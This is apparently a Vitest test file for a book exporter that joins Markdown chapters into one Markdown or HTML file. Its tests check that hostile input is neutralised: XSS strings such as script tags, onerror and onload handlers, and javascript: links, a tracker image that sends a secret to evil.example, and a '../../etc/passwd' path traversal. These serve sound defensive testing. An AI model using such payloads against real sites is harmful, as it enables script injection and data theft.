import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assembleBook, bookFileName, BookExportError, resolveBookLink } from '../../../src/book/book.ts';
import { exportBook } from '../../../src/book/export.ts';
import { assertAllowedMarkup, safeHref } from '../../../src/book/html-export.ts';
import { headingSlug, rewriteChapterLinks } from '../../../src/book/markdown-export.ts';
import { parseScenario } from '../../../src/llm/scenario.ts';

const demo = parseScenario(JSON.parse(readFileSync(fileURLToPath(new URL('../../../public/demos/stargazing-book.json', import.meta.url)), 'utf8')));
const files = demo.expectedFiles!;
const chapterPaths = ['chapters/01-getting-started.md', 'chapters/02-finding-your-way.md', 'chapters/03-a-year-of-sights.md'];

function body(html: string): string {
  return html.slice(html.indexOf('<body>'));
}

/** The page's real elements (escaped text such as `&lt;img …&gt;` is not one). */
function tags(html: string): string {
  return (body(html).match(/<[a-zA-Z][^>]*>/g) ?? []).join('\n');
}

describe('the book as one Markdown file', () => {
  const exported = exportBook(files, 'markdown');

  it('holds the outline, then every chapter in full, in the outline order', () => {
    expect(exported.fileName).toBe('looking-up-a-beginner-s-guide-to-the-night-sky.md');
    expect(exported.mimeType).toMatch(/^text\/markdown/);
    expect(exported.chapters).toEqual(chapterPaths);
    expect(exported.missing).toEqual([]);
    const positions = chapterPaths.map((path) => exported.content.indexOf(files[path]!.trim()));
    for (const position of positions) expect(position).toBeGreaterThan(0);
    expect(positions).toEqual([...positions].sort((a, b) => a - b));
    expect(exported.content.startsWith("# Looking Up: A Beginner's Guide to the Night Sky")).toBe(true);
    expect(exported.content.split('\n---\n')).toHaveLength(4);
  });

  it('turns the outline links to chapter files into links to the chapters in the same file', () => {
    expect(exported.content).toContain('[Getting Started](#chapter-1-getting-started)');
    expect(exported.content).toContain('[A Year of Sights](#chapter-3-a-year-of-sights)');
    expect(exported.content).not.toContain('](chapters/');
    expect(headingSlug("Chapter 2: Finding Your Way Around the Sky")).toBe('chapter-2-finding-your-way-around-the-sky');
  });

  it('leaves links inside fenced code and images alone, and resolves links relative to the chapter', () => {
    const anchors = new Map([['chapters/01-a.md', 'one']]);
    const text = '[back](01-a.md) ![pic](01-a.md)\n```\n[code](01-a.md)\n```\n[up](../chapters/01-a.md "t")';
    expect(rewriteChapterLinks(text, 'chapters/02-b.md', anchors)).toBe('[back](#one) ![pic](01-a.md)\n```\n[code](01-a.md)\n```\n[up](#one "t")');
  });

  it('stands in for a chapter not written yet, and says which', () => {
    const partial = { ...files, 'chapters/03-a-year-of-sights.md': '  \n' };
    const out = exportBook(partial, 'markdown');
    expect(out.missing).toEqual(['chapters/03-a-year-of-sights.md']);
    expect(out.content).toContain('# A Year of Sights\n\n*This chapter has not been written yet (chapters/03-a-year-of-sights.md).*');
  });

  it('gives a chapter without a heading the title from the outline, and reports unlinked files', () => {
    const book = assembleBook({ 'outline.md': '# T\n\n- [The Start](chapters/01-start.md)', 'chapters/01-start.md': 'Once upon a time.', 'notes.md': 'x' });
    expect(book.chapters[0]?.title).toBe('The Start');
    expect(book.unlinked).toEqual(['notes.md']);
    expect(exportBook({ 'outline.md': '# T\n\n- [The Start](chapters/01-start.md)', 'chapters/01-start.md': 'Once upon a time.' }, 'markdown').content).toContain('# The Start\n\nOnce upon a time.');
  });

  it('refuses files that are not a book, with a clear message', () => {
    expect(() => exportBook({ 'a.js': 'x' }, 'markdown')).toThrow(BookExportError);
    expect(() => exportBook({ 'a.js': 'x' }, 'markdown')).toThrow(/no outline\.md/);
    expect(() => exportBook({ 'outline.md': '# Title only' }, 'html')).toThrow(/links no chapter files/);
  });
});

describe('the book as one HTML file', () => {
  const exported = exportBook(files, 'html');

  it('is one page with the outline and every chapter, chapter links turned into anchors', () => {
    expect(exported.fileName).toBe('looking-up-a-beginner-s-guide-to-the-night-sky.html');
    expect(exported.content).toMatch(/^<!doctype html>/);
    expect(exported.content).toContain("<title>Looking Up: A Beginner&#39;s Guide to the Night Sky</title>");
    for (const [i] of chapterPaths.entries()) expect(exported.content).toContain(`<section class="chapter" id="chapter-0${i + 1}">`);
    expect(exported.content).toContain('<a href="#chapter-02">Finding Your Way Around the Sky</a>');
    expect(exported.content).toContain('Chapter 3: A Year of Sights</h1>');
    expect(exported.content).toContain('<strong>Andromeda Galaxy</strong>');
  });

  it('is self-contained: inline CSS, a policy that forbids scripts and every remote load, nothing linked or loaded', () => {
    const html = exported.content;
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">`);
    expect(html).toMatch(/<style>[\s\S]+<\/style>/);
    expect(html).not.toMatch(/<script|<link|<img|<iframe|src=|url\(|@import/i);
  });

  it('shows hostile Markdown as text: no script, no image, no handler, no unsafe link', () => {
    const hostile = [
      '# Evil chapter',
      '<script>alert(1)</script>',
      '<img src="x" onerror="alert(1)">',
      '<iframe src="https://evil.example/"></iframe><style>body{background:url(https://evil.example/x)}</style>',
      '![tracker](https://evil.example/collect?secret=42)',
      '[click](javascript:alert(1)) [also](JaVaScRiPt:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [proto](//evil.example/x)',
      '<a href="javascript:alert(1)" onclick="x()">raw link</a>',
      '[ok](https://example.org/page?a=1&b=2 "A title") <https://example.org/auto> [mail](mailto:a@example.org)',
      '- [x] done',
      '<!-- a comment -->',
    ].join('\n\n');
    const out = exportBook({ 'outline.md': '# B\n\n1. [Evil](chapters/01-evil.md)', 'chapters/01-evil.md': hostile }, 'html').content;
    const page = body(out);
    expect(tags(out)).not.toMatch(/<script|<img|<iframe|<style|\son[a-z]+=|href="javascript|href="data|href="\/\/|src=/i);
    expect(page).not.toContain('evil.example/collect');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('[image: tracker]');
    expect(page).toContain('<a href="https://example.org/page?a=1&amp;b=2" title="A title" rel="noopener noreferrer nofollow">ok</a>');
    expect(page).toContain('<a href="https://example.org/auto" rel="noopener noreferrer nofollow">');
    expect(page).toContain('<a href="mailto:a@example.org" rel="noopener noreferrer nofollow">mail</a>');
    expect(page).toContain('click');
    expect(page).toContain('☑ done');
  });

  it('renders any text to markup inside the allow-list (property)', () => {
    const fragments = fc.constantFrom(
      '<script>x</script>', '<img src=x onerror=y>', '[a](javascript:x)', '![i](https://e.x/i.png)', '<svg onload=x>', '`code`',
      '```\n<b>\n```', '| a | b |\n|---|:-:|\n| 1 | 2 |', '> quote', '<a href="x">y</a>', '[c](chapters/01-c.md)', '&lt;', '\n\n', '* item',
      '<details open ontoggle=x>', '[l]: javascript:alert(1)\n\n[l]', '<https://ok.example>', '<javascript:alert(1)>', '<style>x</style>',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(fragments, fc.string()), { maxLength: 12 }), (parts) => {
        const out = exportBook({ 'outline.md': '# B\n[c](chapters/01-c.md)', 'chapters/01-c.md': `# C\n\n${parts.join(' ')}` }, 'html').content;
        const elements = tags(out);
        expect(elements).not.toMatch(/<(script|img|svg|iframe|style|details|object|embed|link|meta|input|form)\b/i);
        expect(elements).not.toMatch(/\son[a-z]+=|\ssrc=/i);
        expect(elements).not.toMatch(/href="(?!#|https?:|mailto:)/i);
      }),
      { numRuns: 300 },
    );
  });
});

describe('links and names', () => {
  it('resolves links between book files and refuses those that leave the book', () => {
    expect(resolveBookLink('outline.md', './chapters/01-a.md#part')).toBe('chapters/01-a.md');
    expect(resolveBookLink('chapters/02-b.md', '01-a.md')).toBe('chapters/01-a.md');
    expect(resolveBookLink('chapters/02-b.md', '../outline.md')).toBe('outline.md');
    expect(resolveBookLink('chapters/02-b.md', '../../etc/passwd')).toBeNull();
    expect(resolveBookLink('outline.md', 'https://example.org/')).toBeNull();
    expect(resolveBookLink('outline.md', '#top')).toBeNull();
    expect(resolveBookLink('outline.md', 'chapters/01%20a.md')).toBe('chapters/01 a.md');
  });

  it('keeps only anchors into the book and http(s)/mailto addresses', () => {
    const anchors = new Map([['chapters/01-a.md', 'chapter-01']]);
    expect(safeHref('outline.md', 'chapters/01-a.md', anchors)).toBe('#chapter-01');
    expect(safeHref('outline.md', 'chapters/09-none.md', anchors)).toBeNull();
    expect(safeHref('outline.md', ' javascript:alert(1)', anchors)).toBeNull();
    expect(safeHref('outline.md', 'vbscript:x', anchors)).toBeNull();
    expect(safeHref('outline.md', '#section-2', anchors)).toBe('#section-2');
    expect(safeHref('outline.md', 'https://example.org/a b', anchors)).toBe('https://example.org/a%20b');
  });

  it('the allow-list check refuses what the renderer must never produce', () => {
    expect(() => assertAllowedMarkup('<p>fine <a href="#x">x</a></p>')).not.toThrow();
    expect(() => assertAllowedMarkup('<img src="x">')).toThrow(/<img>/);
    expect(() => assertAllowedMarkup('<p onclick="x">')).toThrow(/onclick/);
    expect(() => assertAllowedMarkup('<a href="javascript:x">')).toThrow(/unsafe link/);
    expect(() => assertAllowedMarkup('<p>a</p><svg/onload=x>')).toThrow();
  });

  it('names the file after the title', () => {
    expect(bookFileName('Éclair & Café: Notes!', 'md')).toBe('eclair-cafe-notes.md');
    expect(bookFileName('***', 'html')).toBe('book.html');
  });
});
